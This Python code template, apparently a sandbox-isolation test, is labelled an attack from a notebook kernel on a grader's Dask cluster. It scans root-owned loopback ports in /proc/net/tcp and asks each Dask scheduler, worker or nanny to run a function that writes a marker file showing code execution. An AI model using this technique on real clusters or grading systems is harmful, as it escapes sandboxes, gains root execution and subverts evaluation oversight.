# The TA's Dask cluster from a kernel: find every listener on the loopback (/proc/net/tcp), import
# distributed from the grader's own environment (its path is on root processes' command lines), and ask
# each listener, as a scheduler and as a worker or nanny, to run a function that writes __MARK__. The
# file exists only if a task ran; as root it would be written as root.
import asyncio
import sys
import threading
import time

sys.path.append("__GRADER_SITE__")
_stop = time.monotonic() + __SECONDS__


def _listeners() -> list[int]:
    """Ports that root listens on (the uid is /proc/net/tcp's eighth column): the grader's cluster."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                for row in f.read().splitlines()[1:]:
                    fields = row.split()
                    if len(fields) > 7 and fields[3] == "0A" and fields[7] == "0":
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    return sorted(ports)


def _leave_a_mark():
    import os

    with open("__MARK__", "w") as f:
        f.write(f"uid {os.getuid()}")


async def _try(port: int) -> None:
    from distributed import Client
    from distributed.core import rpc
    from distributed.protocol.pickle import dumps

    address = f"tcp://127.0.0.1:{port}"  # (tls:// needs a certificate this kernel does not have)
    try:  # a scheduler: a client, then a task on every worker
        async with Client(address, asynchronous=True, timeout=1) as client:
            await asyncio.wait_for(client.run(_leave_a_mark), 3)
    except BaseException:  # noqa: BLE001 - not a scheduler, or not one that lets us in
        pass
    try:  # a worker or a nanny: their own "run" handler
        async with rpc(address, timeout=1) as remote:
            await asyncio.wait_for(remote.run(function=dumps(_leave_a_mark)), 2)
    except BaseException:  # noqa: BLE001
        pass


async def _everywhere() -> None:
    seen: set[int] = set()
    while time.monotonic() < _stop:
        for port in _listeners():
            if port not in seen:
                seen.add(port)
                try:
                    await asyncio.wait_for(_try(port), 2)  # whatever else listens must not hold it up
                except BaseException:  # noqa: BLE001
                    pass
        await asyncio.sleep(0.5)


def _attack() -> None:  # in a thread of its own: the kernel's event loop runs this cell
    try:
        asyncio.run(asyncio.wait_for(_everywhere(), __SECONDS__ + 5))
    except BaseException as err:  # noqa: BLE001
        print("cluster attack ended:", type(err).__name__, err)


_thread = threading.Thread(target=_attack, daemon=True)
_thread.start()
_thread.join(__SECONDS__ + 3)
